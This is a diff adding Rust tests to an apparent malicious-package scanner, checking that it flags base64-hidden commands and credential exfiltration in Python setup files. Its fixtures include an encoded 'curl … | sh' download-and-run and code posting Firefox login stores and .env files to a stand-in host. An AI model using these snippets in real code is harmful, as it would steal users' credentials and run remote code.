@@ -1238,6 +1238,27 @@ mod tests {
     }
 
     #[test]
+    fn a_helper_decoding_its_argument_hides_data_only_when_handed_a_constant() {
+        let helper = "import base64, os\ndef b64d(s):\n    return base64.b64decode(s.encode('ascii')).decode('ascii')\n";
+        let hidden =
+            format!("{helper}os.system(b64d('Y3VybCAtcyBodHRwOi8veC5pbnZhbGlkL3ggfCBzaA=='))\n");
+        let flows: Vec<_> = findings("p/setup.py", &hidden)
+            .into_iter()
+            .filter(|f| f.rule == "WH200" && f.message.contains("decoded"))
+            .collect();
+        assert!(!flows.is_empty());
+        // A command-line option that may be base64 is the user's own command.
+        let option = format!(
+            "{helper}import argparse\ndef main():\n    args = argparse.ArgumentParser().parse_args()\n    os.system(b64d(args.command))\n"
+        );
+        assert!(
+            findings("p/pkg/cli.py", &option)
+                .into_iter()
+                .all(|f| !(f.rule == "WH200" && f.message.contains("decoded")))
+        );
+    }
+
+    #[test]
     fn listed_or_tested_browser_file_names_name_the_store_they_are_joined_to() {
         let listed = "import os, glob, requests\nfor prof in glob.glob(os.path.join(os.getenv('APPDATA', ''), 'Mozilla', 'Firefox', 'Profiles', '*')):\n    for name in ('logins.json', 'key4.db'):\n        requests.post('https://x.invalid/u', data=open(os.path.join(prof, name), 'rb').read())\n";
         assert!(max_severity("p-1/pkg/__init__.py", listed, "WH200") >= 0.85);
@@ -1256,6 +1277,9 @@ mod tests {
         assert!(max_severity("p-1/pkg/__init__.py", &dotenv, "WH200") >= 0.85);
         let config = "import os, requests\nfor name in ('.env', 'settings.toml'):\n    requests.post('https://x.invalid/u', data=open(name).read())\n";
         assert!(max_severity("p-1/pkg/__init__.py", config, "WH200") < 0.5);
+        // A test that skips the file names no store for the files that follow it.
+        let skipped = "import os, requests\ndef first_line(p):\n    if p == '.env':\n        return None\n    return open(p).readline()\nrequests.post('https://x.invalid/u', data=first_line('setup.cfg'))\n";
+        assert!(max_severity("p-1/pkg/__init__.py", skipped, "WH200") < 0.5);
         let suffix = ending.replace("('id_rsa', '.pypirc')", "'.py'");
         assert!(max_severity("p-1/pkg/__init__.py", &suffix, "WH200") < 0.5);
         let settings = "import os, requests\nfor name in ('settings.json', 'cookies'):\n    requests.post('https://x.invalid/u', data=open(os.path.join('conf', name)).read())\n";
